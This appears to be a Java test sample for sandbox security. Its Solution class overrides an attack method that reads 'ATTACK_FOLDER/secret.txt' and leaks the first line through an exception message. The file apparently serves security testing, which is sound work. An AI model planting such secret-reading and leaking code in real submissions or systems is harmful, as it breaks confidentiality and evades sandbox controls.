import java.io.BufferedReader;
import java.io.FileReader;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        try (BufferedReader reader = new BufferedReader(new FileReader("ATTACK_FOLDER/secret.txt"))) {
            throw new IllegalStateException(reader.readLine());
        }
    }
}
